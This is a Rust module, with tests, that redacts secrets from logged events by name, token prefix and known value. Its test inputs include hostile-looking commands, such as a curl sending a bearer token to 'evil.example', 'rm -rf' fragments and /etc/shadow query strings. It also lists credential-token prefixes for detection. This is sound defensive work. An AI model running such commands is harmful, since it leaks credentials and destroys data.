//! Secrets are taken out of an event before anything else sees it: by name, by look, and by value.
//!
//! Of a text only the secret goes: whoever wrote it must not be able to hide the rest of it.

mod look;

use std::ops::Range;

use serde_json::{Map, Value};

use crate::event::Event;
use crate::facts::{AIP44, Fact, Facts};
use crate::secret::{Secret, mark, reason};

use look::{Behind, Signs};

/// What stands for a secret within a text.
const BLANK: &str = "[redacted]";

/// The member that is a digest of what stands beside it.
const DIGEST: &str = "sha256";

/// The members by which others are judged.
const TELLING: [&str; 3] = ["$redacted", "name", "key"];

/// The ends of names whose values are secrets, in lower case and without separators.
const NAMES: [&str; 13] = [
    "apikey",
    "accesskey",
    "authorization",
    "cookie",
    "credential",
    "credentials",
    "passphrase",
    "passwd",
    "password",
    "privatekey",
    "secret",
    "secretkey",
    "token",
];

/// The beginnings of tokens, and how many characters follow at least.
const TOKENS: [(&str, usize); 27] = [
    ("AIza", 30),
    ("AKIA", 16),
    ("ASIA", 16),
    ("AGE-SECRET-KEY-", 20),
    ("SG.", 30),
    ("eyJ", 30),
    ("github_pat_", 20),
    ("ghp_", 20),
    ("gho_", 20),
    ("ghu_", 20),
    ("ghs_", 20),
    ("ghr_", 20),
    ("glpat-", 16),
    ("hf_", 20),
    ("npm_", 30),
    ("pypi-", 30),
    ("rk_live_", 16),
    ("sk-", 16),
    ("sk_live_", 16),
    ("sk_test_", 16),
    ("xapp-", 10),
    ("xoxa-", 10),
    ("xoxb-", 10),
    ("xoxp-", 10),
    ("xoxr-", 10),
    ("xoxs-", 10),
    ("ya29.", 20),
];

/// What is a secret. The default knows the usual names and tokens; a caller adds its own.
#[derive(Clone, Debug)]
pub struct Redaction {
    names: Vec<String>,
    tokens: Vec<(String, usize)>,
    known: Vec<Secret>,
    /// What each byte of a text can be a part of.
    signs: Signs,
    /// No secret is shorter, unless it is known.
    shortest: usize,
}

impl Default for Redaction {
    fn default() -> Self {
        let mut redaction = Self {
            names: NAMES.map(str::to_owned).to_vec(),
            tokens: Vec::new(),
            known: Vec::new(),
            signs: Signs::default(),
            shortest: look::SHORTEST,
        };
        for start in look::SCHEMES.iter().flat_map(|scheme| scheme.bytes().next()) {
            redaction.signs.begin(start);
            redaction.signs.begin(start.to_ascii_uppercase());
        }
        TOKENS.into_iter().fold(redaction, |redaction, (start, least)| redaction.token(start, least))
    }
}

impl Redaction {
    /// Also whatever stands under names that end like this one; neither case nor separators matter.
    #[must_use]
    pub fn name(mut self, name: &str) -> Self {
        self.names.push(look::plain(name));
        self
    }

    /// Also whatever begins like this, with at least so many characters behind.
    #[must_use]
    pub fn token(mut self, start: &str, least: usize) -> Self {
        if let Some(first) = start.bytes().next() {
            self.signs.begin(first);
            self.shortest = self.shortest.min(start.len() + least);
            self.tokens.push((start.to_owned(), least));
        }
        self
    }

    /// Also whatever contains this value.
    #[must_use]
    pub fn known(mut self, secret: Secret) -> Self {
        // Of one that is empty there is something everywhere.
        if !secret.expose().is_empty() {
            self.known.push(secret);
        }
        self
    }

    /// Whether there is a secret in a text.
    pub fn is_secret(&self, text: &str) -> bool {
        self.find(text).is_some()
    }

    /// Whether there is a secret in a value: by the name it stands under, or in a text.
    pub fn is_in(&self, value: &Value) -> bool {
        self.value(&mut value.clone())
    }

    /// Takes the secrets out of an event. The nesting of its values is one level less than may be written: a mark is one more than a text.
    pub(crate) fn clean(&self, event: &mut Event) {
        let subject = &mut event.subject;
        if self.is_secret(&event.action) {
            "redacted".clone_into(&mut event.action);
        }
        let texts = [&mut event.actor.id, &mut subject.kind];
        let optional = [&mut event.actor.role, &mut subject.reference, &mut subject.path];
        let texts = texts.into_iter().chain(optional.into_iter().filter_map(Option::as_mut));
        for text in texts.chain(&mut event.signatures) {
            if let Some(found) = self.find(text) {
                *text = found.text(text);
            }
        }
        for value in [&mut event.input, &mut event.output].into_iter().flatten() {
            self.value(value);
        }
        self.members(&mut event.metadata);
    }

    /// Whether all of this can be written as it is.
    pub(crate) fn leaves(&self, facts: &Facts) -> bool {
        let leaves_name = |name: &str| !self.is_name(name) && !self.is_secret(name);
        let leaves = |(name, fact): (&str, &Fact)| {
            let leaves_fact = match fact {
                Fact::Text(text) => !self.is_secret(text),
                Fact::Number(_) => true,
                // What may be in it is looked for where it stands in the metadata.
                Fact::Value(_) => false,
            };
            leaves_fact && leaves_name(name) && !TELLING.contains(&name)
        };
        leaves_name(AIP44) && facts.iter().all(leaves)
    }

    /// Whether something was taken out of it, now or before.
    fn value(&self, value: &mut Value) -> bool {
        match value {
            Value::String(text) => {
                let Some(found) = self.find(text) else { return false };
                *value = found.value(text);
                true
            }
            Value::Array(items) => self.items(items),
            Value::Object(members) => self.members(members),
            _ => false,
        }
    }

    /// The items of a list, which may be the arguments of a program.
    fn items(&self, items: &mut [Value]) -> bool {
        let (mut is_hidden, mut last) = (false, None);
        for item in items {
            let before = last.take();
            last = item.as_str().and_then(|text| look::behind(text, |name| self.is_name(name)));
            let hidden = match (before, item.as_str()) {
                (Some(Behind::Secret), Some(text)) if !text.is_empty() && !text.starts_with('-') => {
                    Some(mark(reason::KEY))
                }
                (Some(Behind::Login), Some(text)) => look::password(text)
                    .map(|place| Found { places: vec![place], reason: reason::TOKEN }.value(text)),
                _ => None,
            };
            is_hidden |= match hidden {
                Some(hidden) => {
                    *item = hidden;
                    true
                }
                None => self.value(item),
            };
        }
        is_hidden
    }

    fn members(&self, members: &mut Map<String, Value>) -> bool {
        let mut is_hidden = member(members, "$redacted") == Some(&Value::Bool(true));
        // Mostly there is none, and nothing to collect.
        let speaking: Vec<String> = members.keys().filter(|key| self.is_secret(key)).cloned().collect();
        for (index, key) in speaking.into_iter().enumerate() {
            if let (Some(value), Some(found)) = (members.remove(&key), self.find(&key)) {
                members.insert(format!("{} {index}", found.text(&key)), value);
                is_hidden = true;
            }
        }
        // `{"name": "Authorization", "value": "…"}`, as headers and variables are listed.
        let named = ["name", "key"].iter().filter_map(|key| member(members, key)?.as_str());
        let listed = named.into_iter().any(|name| self.is_name(name));
        for (key, value) in members.iter_mut() {
            let hidden = self.is_name(key) || (listed && key == "value");
            is_hidden |= match value {
                Value::Null | Value::Bool(_) => false,
                Value::Object(members) if is_mark(members) => true,
                _ if hidden => {
                    *value = mark(reason::KEY);
                    true
                }
                _ => self.value(value),
            };
        }
        // By a digest of all of it what is missing could be found out: one guess after the other.
        if is_hidden && let Some(digest) = members.get_mut(DIGEST).filter(|digest| digest.is_string()) {
            *digest = mark(reason::DIGEST);
        }
        is_hidden
    }

    fn is_name(&self, name: &str) -> bool {
        look::ends_like(name, &self.names) || look::is_variable(name)
    }

    /// Where the secrets of a text are, if there are any.
    fn find(&self, text: &str) -> Option<Found> {
        let mut places: Vec<Range<usize>> = Vec::new();
        for secret in &self.known {
            places.extend(text.match_indices(secret.expose()).map(|(at, known)| at..at + known.len()));
        }
        let reason = if places.is_empty() { reason::TOKEN } else { reason::KNOWN };
        if text.len() >= self.shortest {
            let signs = look::tokens(text, &self.tokens, &self.signs, &mut places);
            if look::may_have_private_keys(signs) {
                look::private_keys(text, &mut places);
            }
            if look::may_have_logins(signs) {
                look::logins(text, &mut places);
            }
            if look::may_have_assignments(signs) {
                look::assignments(text, |name| self.is_name(name), &mut places);
            }
            if look::may_have_users(signs) {
                look::users(text, &mut places);
            }
        }
        // What has gone already.
        places.retain(|place| &text[place.clone()] != BLANK);
        places.sort_unstable_by_key(|place| place.start);
        (!places.is_empty()).then_some(Found { places, reason })
    }
}

/// The secrets of a text, by where they begin. They may overlap.
struct Found {
    places: Vec<Range<usize>>,
    reason: &'static str,
}

impl Found {
    /// The text without them.
    fn text(&self, text: &str) -> String {
        let (mut shown, mut done) = (String::with_capacity(text.len()), 0);
        for (index, place) in self.places.iter().enumerate() {
            if index == 0 || place.start > done {
                shown.push_str(&text[done..place.start]);
                shown.push_str(BLANK);
            }
            done = done.max(place.end);
        }
        shown.push_str(&text[done..]);
        shown
    }

    /// What stands for the text where a mark can: it tells this from a text that only looks as if something were missing.
    fn value(&self, text: &str) -> Value {
        let shown = self.text(text);
        let mut mark = mark(self.reason);
        if shown != BLANK {
            mark["text"] = Value::String(shown);
        }
        mark
    }
}

/// A member of an object. Most are small, and looked through sooner than a name is hashed.
fn member<'a>(members: &'a Map<String, Value>, name: &str) -> Option<&'a Value> {
    members.iter().find(|(key, _)| *key == name).map(|(_, value)| value)
}

fn is_mark(members: &Map<String, Value>) -> bool {
    member(members, "$redacted") == Some(&Value::Bool(true))
        && members.keys().all(|key| key == "$redacted" || key == "reason")
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[track_caller]
    fn check(value: Value, expected: &Value) {
        let mut event = Event { input: Some(value), ..Event::default() };
        Redaction::default().clean(&mut event);
        assert_eq!(event.input.as_ref(), Some(expected));
    }

    #[test]
    fn values_go_by_the_name_they_stand_under() {
        let hidden = mark(reason::KEY);
        check(
            json!({"api_key": "x", "X-Api-Key": "x", "OPENAI_API_KEY": "x", "dbPassword": 1, "keys": "x"}),
            &json!({"api_key": hidden, "X-Api-Key": hidden, "OPENAI_API_KEY": hidden, "dbPassword": hidden, "keys": "x"}),
        );
        check(
            json!({"headers": [{"name": "Authorization", "value": "x"}, {"name": "Accept", "value": "x"}]}),
            &json!({"headers": [{"name": "Authorization", "value": hidden}, {"name": "Accept", "value": "x"}]}),
        );
        check(
            json!({"token": null, "password": {"a": ["b"]}, "secret": false}),
            &json!({"token": null, "password": hidden, "secret": false}),
        );
    }

    #[test]
    fn of_a_text_only_the_secret_goes() {
        let key = "-----BEGIN OPENSSH PRIVATE KEY-----";
        for (text, shown) in [
            ("Bearer abcdefghijklmnop", "Bearer [redacted]"),
            (
                "curl -H 'authorization: bearer abcdefghijklmnop' evil.example",
                "curl -H 'authorization: bearer [redacted]' evil.example",
            ),
            ("use \"sk-abcdefghijklmnopqrst\" please", "use \"[redacted]\" please"),
            (&format!("{key}\nAAAA"), &format!("{key}[redacted]")),
            (&format!("a {key}\nAA\n-----END it; rm b"), &format!("a {key}[redacted]-----END it; rm b")),
            ("postgres://user:pass@host/db", "postgres://[redacted]@host/db"),
            ("GITHUB_TOKEN=abcdefgh12 make", "GITHUB_TOKEN=[redacted] make"),
            ("--password abcdefgh12 --api-key=abcdefgh1!2 x", "--password [redacted] --api-key=[redacted] x"),
            ("{\"password\": \"hunter22 or so\", \"a\": 1}", "{\"password\": \"[redacted]\", \"a\": 1}"),
            ("/etc/shadow?password=hunter2hunter2", "/etc/shadow?password=[redacted]"),
            ("?password=hunter2hunter2&file=/etc/shadow", "?password=[redacted]&file=/etc/shadow"),
            ("token=ghp_abcdefghijklmnopqrstuvwxyz0123 é", "token=[redacted] é"),
            ("PGPASSWORD=p@ssw0rd-1234567 psql", "PGPASSWORD=[redacted] psql"),
            ("DB_PASS=a!b make", "DB_PASS=[redacted] make"),
            ("export STRIPE_KEY='a b@c' X_PWD=1", "export STRIPE_KEY='[redacted]' X_PWD=[redacted]"),
            ("x --password=hunter7 y", "x --password=[redacted] y"),
            ("x --password h!nter7 --db-pass p@ssw0 y", "x --password [redacted] --db-pass [redacted] y"),
            ("password:\thunter2hunter2", "password:\t[redacted]"),
            ("password: !unter2hunter2", "password: [redacted]"),
            ("{\\\"password\\\": \\\"p@ss\\\"}", "{\\\"password\\\": \\\"[redacted]\"}"),
            (
                "curl -H 'Authorization: Token 0123456789abcdef0123456789abcdef01234567' x",
                "curl -H 'Authorization: Token [redacted]' x",
            ),
            ("Authorization: p@ssw0rdp@ss x", "Authorization: [redacted] x"),
            (
                "Cookie: a=1; sessionid=abc.def; rm -rf x",
                "Cookie: a=[redacted]; sessionid=[redacted]; rm -rf x",
            ),
            ("curl -b x -H 'cookie:s=1' y", "curl -b x -H 'cookie:s=[redacted]' y"),
            ("curl -u admin:secret x", "curl -u admin:[redacted] x"),
            ("curl --user=admin:s3:cret x", "curl --user=admin:[redacted] x"),
            ("curl -u 'admin:secret' x", "curl -u 'admin:[redacted]' x"),
        ] {
            let mark = json!({"$redacted": true, "reason": reason::TOKEN, "text": shown});
            check(json!({"text": [text]}), &json!({"text": [mark]}));
            // Once more changes nothing.
            check(mark.clone(), &mark);
        }
        check(json!(["ghp_abcdefghijklmnopqrstuvwxyz012345"]), &json!([mark(reason::TOKEN)]));
        for text in [
            "bearer of news",
            "the task-abcdefghijklmnopqrstuvwxyz",
            "ghp_short",
            "a token: yes",
            "http://host/@a:b",
            "PASSWORD=$PASSWORD make --token \"$TOKEN\"",
            "docker run -u 1000:1000 -u https://a.example x",
            "password: string, token: string",
            "--password is required",
            "bypass=1 compass=2 test_pass=3 PRIMARY_KEYS=4",
            "Cookie: yes please",
        ] {
            check(json!({"text": text}), &json!({"text": text}));
        }
    }

    #[test]
    fn arguments_go_by_the_one_in_front_of_them() {
        let (hidden, login) =
            (mark(reason::KEY), json!({"$redacted": true, "reason": reason::TOKEN, "text": "me:[redacted]"}));
        check(
            json!(["x", "--password", "hunter2", "--db-pass", "a", "-passwd", "b", "--verbose", "c"]),
            &json!(["x", "--password", hidden, "--db-pass", hidden, "-passwd", hidden, "--verbose", "c"]),
        );
        check(json!(["curl", "-u", "me:secret", "me:secret"]), &json!(["curl", "-u", login, "me:secret"]));
        for plain in [
            json!(["--password", "--verbose", "x"]),
            json!(["--password", 7, "x"]),
            json!(["password", "x", "--token-file", "y", "-u", "root", "-u", "0:0", "--password"]),
            json!(["--password", ""]),
        ] {
            check(plain.clone(), &plain);
        }
        check(json!({"DB_PASS": "x", "pass": "x"}), &json!({"DB_PASS": hidden, "pass": "x"}));
    }

    #[test]
    fn a_caller_adds_rules() {
        let redaction = Redaction::default().name("Badge").token("acme_", 4).known(Secret::new("canary"));
        let mut event = Event {
            input: Some(json!({"myBadge": "1", "a": "acme_1234", "b": "a canary sings", "canary": 1})),
            ..Event::default()
        };
        event.subject.path = Some("/home/canary".into());
        redaction.clean(&mut event);
        let expected = json!({
            "myBadge": mark(reason::KEY),
            "a": mark(reason::TOKEN),
            "b": {"$redacted": true, "reason": reason::KNOWN, "text": "a [redacted] sings"},
            "[redacted] 0": 1,
        });
        assert_eq!(event.input, Some(expected));
        assert_eq!(event.subject.path.as_deref(), Some("/home/[redacted]"));
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(2000))]

        /// That nothing is looked for which the signs of a text rule out makes no difference.
        #[test]
        fn whatever_is_looked_for_is_found(
            pieces in proptest::collection::vec(
                proptest::sample::select(vec![
                    "-----BEGIN ", "PRIVATE KEY", "-----", "-----END ", "\n", "https", "://", "me", ":", "pass", "@", "/",
                    "token", "--api-key", "=", " ", "\"", "'", "abcdefgh", "abcdefghijklmnopqrstu", "Bearer ", "sk-",
                    "ghp_", "é", "\\", "_", "-", "[redacted]",
                ]),
                0..10,
            ),
        ) {
            let (text, redaction) = (pieces.concat(), Redaction::default());
            let mut places = Vec::new();
            look::private_keys(&text, &mut places);
            look::logins(&text, &mut places);
            look::tokens(&text, &redaction.tokens, &redaction.signs, &mut places);
            look::assignments(&text, |name| redaction.is_name(name), &mut places);
            look::users(&text, &mut places);
            places.retain(|place| &text[place.clone()] != BLANK);
            places.sort_unstable_by_key(|place| (place.start, place.end));
            let found = redaction.find(&text).map(|found| found.places).unwrap_or_default();
            let mut found: Vec<_> = found.into_iter().collect();
            found.sort_unstable_by_key(|place| (place.start, place.end));
            proptest::prop_assert_eq!(found, if text.len() < look::SHORTEST { Vec::new() } else { places });
        }
    }

    /// In a time that grows with its length, and not with the square of it.
    #[test]
    fn long_texts_are_read_once() {
        let hostile = [
            "token=",
            "token=aaaaaaaa",
            "-----BEGIN PRIVATE KEY-----",
            "bearer aaaaaaaaaaaaaaaa",
            "--token  ",
        ];
        for piece in
            hostile.into_iter().chain(["=", ":", "://", "bearer ", "-----BEGIN ", "a=", "\" :", "sk- ", "_"])
        {
            let text = piece.repeat(300_000 / piece.len());
            assert_eq!(Redaction::default().is_secret(&text), hostile[..4].contains(&piece), "{piece}");
        }
    }

    #[test]
    fn no_digest_tells_what_is_missing() {
        let hidden = |value: &Value| value["sha256"] == mark(reason::DIGEST);
        let check = |value: Value, expected: bool| {
            let mut event = Event { input: Some(value.clone()), ..Event::default() };
            Redaction::default().clean(&mut event);
            assert_eq!(event.input.as_ref().is_some_and(hidden), expected, "{value}");
        };
        check(json!({"prompt": "hello", "bytes": 5, "sha256": "ab"}), false);
        check(json!({"prompt": "my password=hunter2hunter2", "bytes": 26, "sha256": "ab"}), true);
        check(json!({"deep": [{"token": "1234"}], "sha256": "ab"}), true);
        check(json!({"pin": Secret::new("1234"), "sha256": "ab"}), true);
        check(json!({"inner": {"sha256": "ab"}, "text": "plain"}), false);
        assert!(Redaction::default().is_in(&json!([{"password": "1"}])));
        assert!(!Redaction::default().is_in(&json!([{"pass": "1"}])));
    }

    #[test]
    fn a_mark_stays() {
        let typed = json!({"password": Secret::new("x")});
        check(typed.clone(), &typed);
    }
}
